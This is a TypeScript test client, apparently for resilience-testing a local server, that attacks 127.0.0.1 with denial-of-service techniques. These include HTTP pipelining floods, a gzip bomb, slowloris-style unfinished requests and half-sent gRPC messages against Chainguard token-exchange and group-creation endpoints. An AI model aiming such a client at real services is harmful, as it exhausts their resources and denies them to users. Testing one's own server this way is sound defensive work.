/**
 * A client without credentials that does as much harm as it can with 50 connections. It starts when it receives the port
 * of a server. When it receives `hold`, it sends nothing more but keeps all connections open.
 */
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';

/** A closed connection is replaced after this time. */
const RECONNECT_MS = 20;
/** The streams of a gRPC connection. */
const STREAMS = 100;

const exchange = (framing: string): string =>
  `POST /sts/exchange HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n${framing}\r\n\r\n`;
const manyFields = gzipSync('a&'.repeat(2_000_000));
const gzipRequest = Buffer.concat([
  Buffer.from(exchange(`Content-Encoding: gzip\r\nContent-Length: ${manyFields.length}`)),
  manyFields,
]);

function message(payload: Uint8Array, length = payload.length, isCompressed = false): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt8(isCompressed ? 1 : 0, 0);
  prefix.writeUInt32BE(length, 1);
  return Buffer.concat([prefix, payload]);
}
const zeros = gzipSync(Buffer.alloc(4 * 2 ** 20));
const EXCHANGE = '/chainguard.platform.oidc.SecurityTokenService/Exchange';
const CREATE_GROUP = '/chainguard.platform.iam.v2.GroupsService/CreateGroup';

let isHolding = false;

/** Opens a connection, and another one whenever it closes. */
function keepOpen(port: number, attack: (socket: Socket) => void): void {
  const open = (): void => {
    if (isHolding) return;
    const socket = connect(port, '127.0.0.1');
    socket.on('error', () => {}).on('close', () => setTimeout(open, RECONNECT_MS));
    socket.once('connect', () => attack(socket));
  };
  open();
}

function keepOpenHttp2(port: number, attack: (session: ClientHttp2Session) => void): void {
  const open = (): void => {
    if (isHolding) return;
    const session = connectHttp2(`http://127.0.0.1:${port}`, { maxSessionMemory: 1_000 });
    session.on('error', () => {}).on('close', () => setTimeout(open, RECONNECT_MS));
    session.once('connect', () => attack(session));
  };
  open();
}

/** Requests many responses and reads none. Repeats it when the server accepts more. */
const pipeline = (path: string) => (socket: Socket) => {
  const requests = `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(3_000);
  const send = (): void => {
    if (!isHolding && !socket.destroyed) socket.write(requests, () => setImmediate(send));
  };
  socket.pause();
  send();
  // Without reading, only a write notices that the server has closed the connection.
  const timer = setInterval(() => (isHolding ? clearInterval(timer) : socket.write('G')), 100);
  socket.once('close', () => clearInterval(timer));
};

/** Keeps the beginnings of messages on all streams of a connection. */
const unfinishedCalls =
  (path: string, start: Buffer, isEnded = false) =>
  (session: ClientHttp2Session): void => {
    const open = (): void => {
      if (isHolding || session.destroyed) return;
      const stream = session.request({
        ...{ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' },
        'grpc-encoding': 'gzip',
      });
      stream
        .on('error', () => {})
        .on('close', () => setTimeout(open, 1))
        .resume();
      if (isEnded) stream.end(start);
      else stream.write(start);
    };
    for (let i = 0; i < STREAMS; i++) open();
  };

/** Sends a request again whenever it is answered. */
const repeat = (request: Buffer) => (socket: Socket) => {
  socket.on('data', () => !isHolding && socket.write(request));
  socket.write(request);
};

const send = (bytes: string) => (socket: Socket) => void socket.resume().write(bytes);

function attack(port: number): void {
  for (let i = 0; i < 5; i++) {
    keepOpen(port, pipeline('/metrics'));
    keepOpen(port, pipeline('/openapi.json'));
    keepOpen(port, repeat(gzipRequest));
    keepOpen(port, send(`${exchange('Content-Length: 65536')}${'a'.repeat(65_000)}`));
    keepOpen(port, send(`${exchange('Transfer-Encoding: chunked')}${'1\r\na\r\n'.repeat(60_000)}`));
    keepOpen(port, send('GET /healthz HTTP/1.1\r\nX-Unfinished: '));
    keepOpenHttp2(port, unfinishedCalls(CREATE_GROUP, message(Buffer.alloc(64_000), 4 * 2 ** 20)));
    keepOpenHttp2(port, unfinishedCalls(CREATE_GROUP, message(Buffer.alloc(50_000), 60_000)));
    keepOpenHttp2(port, unfinishedCalls(EXCHANGE, message(Buffer.alloc(50_000), 60_000)));
    keepOpenHttp2(port, unfinishedCalls(EXCHANGE, message(zeros, zeros.length, true), true));
  }
}

process.on('message', (command: { readonly attack: number } | { readonly hold: true }) => {
  if ('attack' in command) attack(command.attack);
  else isHolding = true;
  process.send?.(true);
});
